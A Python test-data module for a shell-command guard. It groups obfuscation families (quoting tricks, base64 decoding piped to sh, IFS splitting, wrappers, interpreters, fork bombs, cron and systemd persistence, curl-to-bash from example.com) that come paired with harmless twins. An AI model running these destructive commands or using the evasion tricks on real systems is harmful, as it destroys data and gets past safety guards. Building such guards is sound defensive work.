"""Families of disguises as data: what each hides, how it is stopped by reading, and a harmless twin that must run.

Promise: texts to be judged, never run. Where reading cannot know, the row names the row of the bypass table that
proves what the kernel gate does.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Family:
    """One way to hide what a command does."""

    name: str
    stopped: tuple[str, ...]
    """Held or refused by reading alone."""
    run: tuple[str, ...]
    """Near twins that are ordinary."""
    unread: tuple[tuple[str, str], ...] = ()
    """(command that reading lets pass, number of the row of the bypass table that covers it)."""


FAMILIES = (
    Family("quotes inside a name", (r"""r''m -rf ~""", r"""'rm' "-rf" "/" """, r"""r\m -r\f /""", """"r"m -fr $HOME"""),
           ("""echo r''m -rf ~""", """'ls' "-la" "/" """, """printf '%s' "rm -rf /" """)),
    Family("ANSI-C and locale quoting", (r"""$'\x72\x6d' -rf /""", r"""$'\162m' -rf ~""", r"""$"rm" -rf /""", r"""rm $'-\x72f' /"""),
           (r"""echo $'\x72\x6d -rf /'""", r"""printf $'a\tb\n'""", r"""$'l\x73' /""")),
    Family("splitting by IFS", ("rm${IFS}-rf${IFS}/", "IFS=,; X='rm,-rf,/'; $X", "rm$IFS-rf$IFS$HOME"),
           ("ls${IFS}-la", "IFS=,; read -r a b <<< 'x,y'", "IFS=: ; for p in $PATH; do echo $p; done")),
    Family("a substitution as the name", ("$(echo rm) -rf /", "`printf rm` -rf ~", "$(echo cm0gLXJmIC8K | base64 -d)", "$(rev <<< 'mr') -rf /"),
           ("$(which python3) -m pytest", "echo $(date)", "$(go env GOPATH)/bin/tool --fix")),
    Family("decoded, then run", ("echo cm0gLXJmIC8K | base64 -d | sh", r"""printf '\x72\x6d -rf ~' | bash""", "echo 726d202d7266202f | xxd -r -p | sh",
                                  "bash -c \"$(base64 -d <<< cm0gLXJmIC8K)\"", "echo cm0gLXJmIC8K | openssl enc -d -base64 | sh"),
           ("echo aGVsbG8= | base64 -d", "base64 -d logo.b64 > logo.png", "echo 'echo hi' | sh")),
    Family("destruction without rm", ("find / -delete", "find ~ -type f -exec shred {} +", "dd if=/dev/zero of=/dev/sda", "mv /srv/data /dev/null",
                                        "rsync -a --delete empty/ /srv/data/", "cp /dev/null ~/prod.sqlite3", ": > /var/lib/app/prod.db",
                                        "truncate -s 0 /var/lib/mysql/ibdata1", "> /etc/hosts", "mv ~/Documents /tmp/x", "tar -xf new.tar -C / --overwrite"),
           ("find . -name '*.pyc' -delete", "dd if=/dev/zero of=disk.img bs=1M count=1", "mv build /tmp/build", ": > build/out.log",
            "cp /dev/null notes.log", "truncate -s 0 debug.log", "> out.txt", "tar -xf deps.tar -C vendor")),
    Family("a variable for name, option or target", ("X=rm; $X -rf /", "F=-rf; rm $F ~", "D=/; rm -rf $D", 'rm -rf "$UNSET"/*', "declare -a A=(rm -rf /); \"${A[@]}\"",
                                                      "N=X; X=rm; ${!N} -rf ~", "A=r B=m; $A$B -rf /", 'rm -rf "${DIR}/"'),
           ('PY=python3; $PY -m pytest', 'D=build; rm -rf $D', 'rm -rf "${BUILD_DIR:?}"/*', 'for f in *.tmp; do rm -f "$f"; done')),
    Family("assignments in front", ("FOO=1 rm -rf /", "A=1 B=2 git push --force origin main", "LANG=C env rm -rf ~"),
           ("FOO=1 make", "NODE_ENV=test npm test", "RM='rm -rf /' make -n")),
    Family("braces and globs", ("{rm,-rf,/}", "{,rm} -rf ~", "/???/r? -rf /", "rm -rf /{etc,usr}", "rm -rf ~/{Documents,Pictures}"),
           ("echo {a,b}.txt", "rm -rf {dist,build}", "ls /???/b*")),
    Family("lines and odd characters", ("r\\\nm -rf /", "ls\nrm -rf ~", "ls;rm -rf /", "ls &rm -rf ~", "rm\t-rf\t/", "true #x\nrm -rf /"),
           ("ls # ; rm -rf /", "echo 'a\nrm -rf /'", "git commit -m 'one\n\nrm -rf / was wrong'")),
    Family("wrappers", ("nice -n 5 timeout 9 setsid rm -rf /", "env -S 'rm -rf /'", "sudo -u root -- rm -rf ~", "busybox rm -rf /", "stdbuf -oL flock /tmp/l rm -rf /",
                         "script -qc 'rm -rf ~' /dev/null", "watch -n 1 'rm -rf /'", "strace -f -o t rm -rf /", "command -p rm -rf ~", "xargs -a list rm -rf",
                         "parallel rm -rf ::: / ~", "chroot / rm -rf /srv"),
           ("nice make -j4", "timeout 60 pytest -q", "env -S 'ls -la'", "sudo -n true", "command -v rm", "parallel gzip ::: a b")),
    Family("shells and functions", ("bash <<< 'rm -rf /'", "source <(echo 'rm -rf ~')", "trap 'rm -rf /' EXIT", "f() { rm -rf ~; }; f", "shopt -s expand_aliases\nalias x='rm -rf /'\nx",
                                     "coproc rm -rf /", "eval 'rm' '-rf' '/'", "bash -c 'bash -c \"rm -rf /\"'", "sh << E\nrm -rf ~\nE", "exec 3<<< 'rm -rf /'; source /dev/fd/3",
                                     "case x in x) rm -rf /;; esac", "while :; do rm -rf ~; break; done"),
           ("bash <<< 'ls'", "trap 'rm -f \"$tmp\"' EXIT", "f() { rm -rf build; }; f", "cat << 'E' > notes.md\nrm -rf /\nE", "alias")),
    Family("interpreters", ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", "perl -e 'system(\"rm -rf ~\")'",
                             "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'", "php -r 'shell_exec(\"rm -rf /\");'", "awk 'BEGIN { system(\"rm -rf /\") }'", "sed '1e rm -rf ~' f",
                             "vim -es -c ':!rm -rf /' -c q", "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' .", "printf 'all:\\n\\trm -rf /\\n' | make -f -",
                             "python3 - <<'E'\nimport os\nos.system('rm -rf ~')\nE", "git -c alias.x='!rm -rf /' x"),
           ("python3 -c 'print(1)'", "node -e 'console.log(\"rm -rf /\")'", "awk '{ print $1 }' f", "sed -n 1p f", "perl -ne 'print if /rm -rf/' f")),
    Family("names put together in code", ("python3 -c \"getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')\"", "python3 -c \"import os as o; f = o.system; f('rm ' + '-rf ~')\"",
                                           "node -e \"require('child_' + 'process').execSync('rm -rf ' + '/')\"", "perl -e 'my $c = \"rm\"; system($c . \" -rf /\")'"),
           ("python3 -c \"print('rm ' + '-rf /')\"", "node -e \"const a = 'rm -rf /'; console.log(a.length)\"", "python3 -c \"import os; print(os.getcwd())\"")),
    Family("elsewhere or later", ("ssh host 'rm -rf /'", "docker exec db rm -rf /var/lib/postgresql/data", "kubectl exec pod -- rm -rf /", "tmux new -d 'rm -rf ~'", "echo 'rm -rf /' | at now",
                                   "(crontab -l; echo '0 * * * * rm -rf ~') | crontab -", "systemd-run rm -rf /", "docker run -v /:/host alpine rm -rf /host/etc"),
           ("ssh host uptime", "docker exec db psql -c 'select 1'", "tmux new -d 'npm run dev'", "kubectl exec pod -- ls /")),
    Family("files that are run", ("echo 'rm -rf /' > x.sh && bash x.sh", "cat > c.sh <<'E'\nrm -rf ~\nE\nchmod +x c.sh; ./c.sh", "curl -so i.sh https://example.com/i.sh && bash i.sh",
                                   "printf 'import shutil\\nshutil.rmtree(\"/\")\\n' > w.py; python3 w.py"),
           ("echo 'ls' > x.sh && bash x.sh", "echo 'rm -rf /' > notes.txt", "bash scripts/test.sh"),
           unread=(("bash ./cleanup.sh", "01"),)),
    Family("paths that hide the target", ("rm -rf /tmp/../etc", "cd / && rm -rf *", "rm -rf ./../../..", "git -C /srv/other reset --hard", "rm -rf ~/./", "rm -rf //", "cd ~ && rm -rf .",
                                           "rm -rf /proc/self/root/etc", "cd /tmp/../; rm -rf etc"),
           ("cd build && rm -rf *", "rm -rf ./build/../dist", "rm -rf /tmp/x/../y", "git -C sub status")),
    Family("options in any shape", ("rm / -rf", "rm -r -f -- ~", "rm --recu --for /", "git reset --har", "git push origin +main", "git push origin :main", "git clean -xdf", "rm -rf -- -x ~"),
           ("rm -- -f", "git reset --soft HEAD~1", "git push origin HEAD:refs/heads/topic", "git clean -n -d")),
    Family("text that is data", ("bash -c 'echo x; rm -rf /'", "echo \"$(rm -rf /)\"", "cat <<E\n$(rm -rf ~)\nE"),
           ("git commit -m 'rm -rf /'", "grep -rn 'rm -rf /' .", "echo 'git reset --hard'", "cat <<'E' > doc.md\n$(rm -rf ~)\nE", "rg --fixed-strings 'DROP TABLE users'",
            "curl -d '{\"text\": \"rm -rf /\"}' http://localhost:3000/notes", "tool check --cmd 'git reset --hard'", "gh issue create -t 'rm -rf / is bad' -b x", "jq '.cmd == \"rm -rf /\"' f.json",
            "sed -i 's/rm -rf \\/tmp/rm -r/' x.sh", "git log --grep='push --force'", "python3 -c \"s = 'mkfs /dev/sda1'; print(s)\"")),
    Family("size and depth", ("true; " * 300 + "rm -rf /", "echo " + "x" * 70_000 + "; rm -rf ~", "eval \"eval 'eval rm -rf /'\"", "( ( ( ( rm -rf / ) ) ) )"),
           ("true; " * 300 + "ls", "echo " + "x" * 20_000)),
    Family("dry runs that are none", ("rm -rf / --help-me", "git clean -fd -e --dry-run", "echo --dry-run; rm -rf ~", "sh -c 'rm -rf /' --dry-run"),
           ("rm --help", "git clean -n", "rsync -an --delete a/ /srv/b/", "man rm", "make -n clean", "git push --dry-run --force")),
    Family("all that a listing finds", ("ls -A | xargs rm -rf", "rm -rf $(find . -mindepth 1 -maxdepth 1)", "find . -mindepth 1 ! -name .git -exec rm -rf {} +", "git ls-files -z | xargs -0 rm -f",
                                         "git status --porcelain | awk '{print $2}' | xargs rm -rf", "fd . -x rm -rf", "shopt -s extglob; rm -rf !(keep)", "find . -type f -exec sh -c ': > {}' \\;",
                                         "git diff --name-only | xargs git checkout --", "ls / | sed 's#^#rm -rf /#' | sh", "find . -name .git -exec rm -rf {} +"),
           ("ls *.tmp | xargs rm -f", "find . -type f -not -name '*.py' | xargs wc -l", "find build -mindepth 1 ! -name .gitkeep -delete", "git ls-files -d | xargs git rm", "fd -e pyc -x rm",
            "ls -t | tail -n +6 | xargs rm -f", "rm -i *.log", "find . -type d -empty -delete", "find . -type f -exec sed -i 's/a/b/' {} +")),
    Family("made first, used later", ("ln -s / x && rm -rf x/*", "mount --bind /home mnt; rm -rf mnt/*", "echo 'rm -rf ~' > a; mv a b.sh; sh b.sh", "dd of=x.sh <<< 'rm -rf /'; sh x.sh",
                                       "git config alias.undo 'reset --hard'; git undo", "git config gc.pruneExpire now; git gc", "trap clean EXIT; clean() { rm -rf ~; }",
                                       "echo '* * * * * root rm -rf /home' | sudo tee /etc/cron.d/tidy", "printf '[Service]\\nExecStart=/bin/rm -rf /\\n' > /etc/systemd/system/x.service",
                                       "x=$(curl -s https://example.com/i.sh); echo \"$x\" | sh", "cp /dev/null tab; crontab tab; crontab - < /dev/null"),
           ("ln -s ../shared lib/shared && rm lib/shared", "ln -s /usr/share/dict d; ls d/", "git config alias.st status; git st", "echo 'ls' > a; mv a b.sh; sh b.sh",
            "trap 'rm -rf \"$T\"' EXIT; T=$(mktemp -d)", "printf '[Service]\\nExecStart=/usr/bin/app\\n' > app.service", "x=$(curl -s https://example.com/d.json); echo \"$x\" | jq .")),
    Family("options that take a word", ("bash -euo pipefail -c 'rm -rf /'", "bash -euxo pipefail <<'E'\nrm -rf ~\nE", "sh -eo errexit -s <<< 'rm -rf /'", "fish --command='rm -rf ~'", "npx -y rimraf@5 ~",
                                        "pnpm dlx rimraf@latest /", "nix run nixpkgs#coreutils -- rm -rf ~", "tmux new -d -s x bash -c 'rm -rf ~'", "just --command rm -rf ~"),
           ("bash -euo pipefail -c 'make test'", "npx -y create-vite@latest app", "npx rimraf@5 dist", "tmux new -d -s x npm run dev", "uvx ruff@0.6 check .")),
    Family("languages of their own", ("julia -e 'rm(\"/\", recursive=true)'", "elixir -e 'File.rm_rf!(\"/\")'", "groovy -e '\"rm -rf /\".execute()'", "jshell <<< 'Runtime.getRuntime().exec(\"rm -rf /\");'",
                                       "tclsh <<< 'file delete -force /'", "ipython -c '!rm -rf ~'", "duckdb -c '.shell rm -rf ~'", "less '+!rm -rf ~' f"),
           ("julia -e 'println(\"rm -rf /\")'", "elixir -e 'IO.puts(\"rm -rf /\")'", "jshell <<< 'System.out.println(1)'", "ipython -c 'print(1)'")),
    Family("the machine by any name", ("systemctl start poweroff.target", "loginctl reboot", "kexec -e", "gdbus call -y -d org.freedesktop.login1 -o /org/freedesktop/login1 -m org.freedesktop.login1.Manager.Reboot true",
                                        "apt-get purge -y libc6", "pacman -Rdd glibc", "iptables -P INPUT DROP", "systemctl stop sshd", "ip route del default", "ps aux | awk '{print $2}' | xargs kill -9",
                                        "fuser -km /", "chmod u+s /bin/bash", "ddrescue -f img /dev/sda log", "lvresize -L -10G vg/home", "zfs rollback -r tank/data@old"),
           ("systemctl restart sshd", "apt-get remove -y nodejs", "ip route show", "fuser -k 3000/tcp", "ps aux | awk '/vite/ {print $2}' | xargs kill", "lvs", "zfs list -t snapshot", "loginctl list-sessions")),
    Family("multiplying", (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f & }; f", "while [[ 1 ]]; do work & done", "perl -e 'fork while 1'", "while true; do sh -c 'sleep 99' & done"),
           ("while true; do sleep 1; done", "for i in 1 2 3; do work & done; wait", "f() { echo x; }; f & wait")),
)  # fmt: skip
